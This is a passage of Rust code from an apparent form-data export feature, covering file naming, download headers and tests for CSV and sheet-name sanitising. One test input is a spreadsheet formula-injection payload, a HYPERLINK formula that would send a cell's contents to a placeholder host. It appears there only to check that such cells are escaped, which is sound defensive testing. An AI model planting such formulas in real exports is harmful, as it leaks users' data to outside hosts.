        match export(&rt, store.as_ref(), query, sink) {
            Ok(records) => tracing::info!(records, "export done"),
            // The body then ends in an error: the sink did not complete it.
            Err(e) => tracing::error!(error = %e, "export failed"),
        }
    });
    let ext = format.as_str();
    let day = |d: Option<&str>| d.unwrap_or("all").to_owned();
    let suffix = part_name.map(|g| format!("-{g}")).unwrap_or_default();
    let file = format!(
        "beatbook-{form_id}{suffix}-{}-{}.{ext}",
        day(given(&p.from)),
        day(given(&p.to))
    );
    let mut title = def.title.get(r.lang).to_owned();
    if let Part::Group(g) = &part {
        title.push('-');
        title.push_str(values::field(&def, g).map_or(g.as_str(), |f| f.label.get(r.lang)));
    }
    if from.is_some() || before.is_some() {
        title.push_str(&format!("_{}_{}", day(given(&p.from)), day(given(&p.to))));
    }
    title.push('.');
    title.push_str(ext);
    let disposition = format!(
        "attachment; filename=\"{file}\"; filename*=UTF-8''{}",
        super::links::form_urlencoded_component(&title).replace('+', "%20")
    );
    Ok((
        [
            (CONTENT_TYPE, content_type.to_owned()),
            (CONTENT_DISPOSITION, disposition),
            (CACHE_CONTROL, "no-store".to_owned()),
        ],
        body,
    )
        .into_response())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn export_formats_are_named_once() {
        assert_eq!(ExportFormat::parse(None).ok(), Some(ExportFormat::Xlsx));
        for format in [ExportFormat::Xlsx, ExportFormat::Csv, ExportFormat::GeoJson] {
            assert_eq!(
                ExportFormat::parse(Some(format.as_str())).ok(),
                Some(format)
            );
        }
        assert!(ExportFormat::parse(Some("pdf")).is_err());
        assert!(ExportFormat::parse(Some("CSV")).is_err());
    }

    #[test]
    fn sheet_names_are_valid_and_unique() {
        let mut taken = Vec::new();
        assert_eq!(sheet_name("走访记录", &mut taken), "走访记录");
        assert_eq!(sheet_name("a/b:c", &mut taken), "a_b_c");
        assert_eq!(sheet_name("走访记录", &mut taken), "走访记录2");
        let long = sheet_name(&"长".repeat(40), &mut taken);
        assert!(long.chars().count() <= 31);
    }

    #[test]
    fn csv_text_never_starts_a_formula_and_numbers_stay_numbers() {
        for (cell, csv) in [
            (
                Cell::Text(r#"=HYPERLINK("http://x.invalid/?"&C2,"详情")"#.into()),
                r#"'=HYPERLINK("http://x.invalid/?"&C2,"详情")"#,
            ),
            (Cell::Text("+86 138".into()), "'+86 138"),
            (Cell::Text("-1+1".into()), "'-1+1"),
            (Cell::Text("@SUM(A1)".into()), "'@SUM(A1)"),
            (Cell::Text("\t=1".into()), "'\t=1"),
            (Cell::Text("\r=1".into()), "'\r=1"),
            (Cell::Text("楼道 = 隐患".into()), "楼道 = 隐患"),
            (Cell::Text(String::new()), ""),
            (Cell::Links(vec!["=x".into()]), "'=x"),
            (Cell::Number(-3.5), "-3.5"),
            (Cell::Number(-12.0), "-12"),
            (Cell::Empty, ""),
        ] {
            assert_eq!(csv_cell(&cell), csv, "{cell:?}");
        }
    }
}
